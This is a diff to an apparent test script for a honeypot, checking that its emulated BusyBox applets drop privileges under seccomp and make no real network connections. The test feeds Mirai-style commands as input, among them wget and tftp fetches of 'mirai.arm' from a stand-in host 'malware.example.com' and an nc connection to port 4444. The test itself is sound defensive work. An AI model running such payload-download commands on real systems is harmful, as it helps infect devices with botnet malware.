@@ -3,7 +3,8 @@
 # 1. --user nobody: after binding, every uid and gid is nobody's, no capability is left (CapEff,
 #    CapPrm 0), no_new_privs is set and the seccomp filter is on (Seccomp: 2), on every thread.
 # 2. Under `strace -f`, a session that runs wget/tftp/ftpget/nc/telnet against a non-loopback
-#    address (203.0.113.5, TEST-NET-3) makes no connect() at all and no sendto() to an address:
+#    address (203.0.113.5, TEST-NET-3) or a host name makes no connect() at all, no DNS query
+#    and no sendto() to an address:
 #    the emulated applets only pretend, and the seccomp filter would refuse it anyway.
 # 3. With server.seccomp = false the process has no filter (the switch works).
 source "$(dirname "$0")/lib/honeypot.sh"
@@ -67,7 +68,8 @@ until(b"# ")
 for command in [b"wget http://203.0.113.5/x", b"/bin/busybox wget http://203.0.113.5:8080/bins/mirai.arm -O - > dvrHelper",
                 b"tftp -g -l x -r mirai.arm 203.0.113.5", b"/bin/busybox ftpget 203.0.113.5 x x",
                 b"nc 203.0.113.5 4444", b"telnet 203.0.113.5 23", b"ping -c 1 203.0.113.5",
-                b"curl -O http://[2001:db8::5]/x"]:
+                b"curl -O http://[2001:db8::5]/x", b"wget http://malware.example.com/bins/x86",
+                b"tftp -g -r mirai.arm update.example.net"]:
     s.sendall(command + b"\r\n")
     print(command.decode(), "->", until(b"# ")[-200:])
 s.close()
